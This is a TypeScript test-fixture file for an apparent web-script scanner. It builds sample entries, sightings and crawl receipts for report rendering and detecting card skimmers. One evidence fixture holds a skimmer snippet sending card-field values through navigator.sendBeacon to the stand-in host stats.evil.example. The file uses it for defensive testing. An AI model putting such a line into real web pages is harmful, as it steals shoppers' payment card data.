import { sha256 } from '../../../core/encoding/index.ts';
import type { Evidence, Receipt, Scores, Sighting } from '../../../core/schema/index.ts';
import type { Entry, ReportModel, ReportOptions } from '../../../cli/render/model.ts';

const shop = 'http://shop.localhost:4100';

export function score(magecart: number, cryptomining = 99, malware = 99): Scores {
  return { integrity: Math.min(magecart, cryptomining, malware), magecart, cryptomining, malware };
}

export function sightingOf(overrides: Partial<Sighting> = {}): Sighting {
  return {
    sha256: sha256('x'),
    visitId: 'v1',
    kind: 'external',
    frameId: 'f1',
    url: `${shop}/a.js`,
    redirects: [],
    pageUrl: `${shop}/`,
    executed: true,
    initiator: { kind: 'parser' },
    ...overrides,
  };
}

export function evidenceOf(overrides: Partial<Evidence> = {}): Evidence {
  return {
    rule: 'field-to-foreign-host',
    severity: 'critical',
    message: 'The card number is read and sent to another host.',
    location: { line: 12, column: 340 },
    snippet: 'navigator.sendBeacon("https://stats.evil.example/c", btoa(card.value))',
    field: '#card-number',
    host: 'stats.evil.example',
    ...overrides,
  };
}

export function entryOf(overrides: Partial<Entry> = {}): Entry {
  return {
    path: `${shop}/a.js`,
    sha256: sha256('x'),
    bytes: 1,
    media: 'js',
    structureHash: null,
    shapeHash: null,
    verdict: 'benign',
    category: null,
    scores: score(99),
    probabilities: { benign: 1, magecart: 0, cryptomining: 0, malware: 0 },
    evidence: [],
    behaviour: { fields: [], hosts: [], sinks: [], dynamicCode: [], storage: [] },
    parse: { mode: 'script' },
    partial: false,
    model: { version: 'test' },
    timings: { totalMs: 1 },
    ...overrides,
  };
}

export function skimmerOf(overrides: Partial<Entry> = {}): Entry {
  return entryOf({
    path: 'http://cdn.vendor.example/lib.js',
    verdict: 'malicious',
    category: 'magecart',
    scores: score(1, 98, 97),
    evidence: [evidenceOf()],
    sightings: [
      sightingOf({ url: 'http://cdn.vendor.example/lib.js', pageUrl: `${shop}/checkout` }),
      sightingOf({ url: 'http://cdn.vendor.example/lib.js', pageUrl: `${shop}/cart`, visitId: 'v2' }),
    ],
    ...overrides,
  });
}

export function receiptOf(overrides: Partial<Receipt> = {}): Receipt {
  return {
    complete: true,
    pages: { visited: 5, failed: 0, notVisited: 0 },
    targets: { attached: 12, failed: 0 },
    scripts: { parsed: 61, read: 61, failed: 0, distinct: 3 },
    requests: { total: 88, failed: 0, blocked: 0 },
    shortfalls: [],
    sandbox: 'full',
    ...overrides,
  };
}

export function crawlModel(entries: readonly Entry[], receipt: Receipt = receiptOf()): ReportModel {
  return {
    subject: `shop  ${shop}/`,
    entries,
    complete: receipt.complete,
    crawl: { state: 'done', receipt, durationMs: 4210, canaryLeaks: [], startUrls: [`${shop}/`] },
  };
}

export const plain80: ReportOptions = { width: 80, colour: false, all: false };
